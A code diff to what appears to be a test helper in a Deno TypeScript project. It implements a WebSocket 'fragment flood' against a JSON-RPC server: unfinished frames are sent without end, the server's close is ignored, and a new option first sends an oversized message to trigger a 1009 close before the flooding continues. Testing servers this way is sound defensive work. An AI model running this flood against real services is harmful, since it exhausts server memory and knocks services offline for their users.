@@ -6,26 +6,19 @@
  * @module
  */
 import assert from "node:assert/strict";
+import { frameHeader } from "./_attack.ts";
 
 const encoder = new TextEncoder();
 
-/** One masked client frame; `fin` false leaves the message open. */
+/** A zero mask: the payload goes out as it is (RFC 6455 only asks that a mask be there). */
+const NO_MASK = new Uint8Array(4);
+
+/** One client frame; `fin` false leaves the message open. */
 function frame(opcode: number, payload: Uint8Array, fin: boolean): Uint8Array {
-  const length = payload.length;
-  const extra = length < 126 ? 0 : length < 65_536 ? 2 : 8;
-  const out = new Uint8Array(2 + extra + 4 + length);
-  const view = new DataView(out.buffer);
-  out[0] = (fin ? 0x80 : 0) | opcode;
-  if (extra === 0) out[1] = 0x80 | length;
-  else if (extra === 2) {
-    out[1] = 0x80 | 126;
-    view.setUint16(2, length);
-  } else {
-    out[1] = 0x80 | 127;
-    view.setBigUint64(2, BigInt(length));
-  }
-  // A zero mask: the payload goes out as it is (RFC 6455 only asks that a mask be there).
-  out.set(payload, 2 + extra + 4);
+  const header = frameHeader(opcode, payload.length, NO_MASK, fin);
+  const out = new Uint8Array(header.length + payload.length);
+  out.set(header);
+  out.set(payload, header.length);
   return out;
 }
 
@@ -44,6 +37,11 @@ export interface FloodOptions {
   frameKiB?: number;
   /** Pause between frames; 25 ms unless said. */
   everyMs?: number;
+  /**
+   * Bytes of a complete message sent first, larger than the server takes: the fragments then
+   * follow its close (1009), which they ignore.
+   */
+  tooLargeFirst?: number;
 }
 
 /**
@@ -51,7 +49,7 @@ export interface FloodOptions {
  * frames (FIN=0), answering pings and ignoring a close frame, until its writes fail.
  */
 export async function fragmentFlood(wsUrl: string, options: FloodOptions): Promise<AttackOutcome> {
-  const { budgetMiB, frameKiB = 1024, everyMs = 25 } = options;
+  const { budgetMiB, frameKiB = 1024, everyMs = 25, tooLargeFirst } = options;
   const target = new URL(wsUrl);
   const conn = await Deno.connect({ hostname: target.hostname, port: Number(target.port) });
   await conn.write(encoder.encode(
@@ -84,6 +82,10 @@ export async function fragmentFlood(wsUrl: string, options: FloodOptions): Promi
   })();
   const chunk = new Uint8Array(frameKiB * 1024).fill(0x61);
   try {
+    if (tooLargeFirst !== undefined) {
+      await conn.write(frame(0x1, new Uint8Array(tooLargeFirst).fill(0x61), true));
+      while (outcome.closeCode === null) await new Promise((resolve) => setTimeout(resolve, 20));
+    }
     await conn.write(
       frame(0x1, encoder.encode('{"jsonrpc":"2.0","id":1,"method":"ping","x":"'), false),
     );
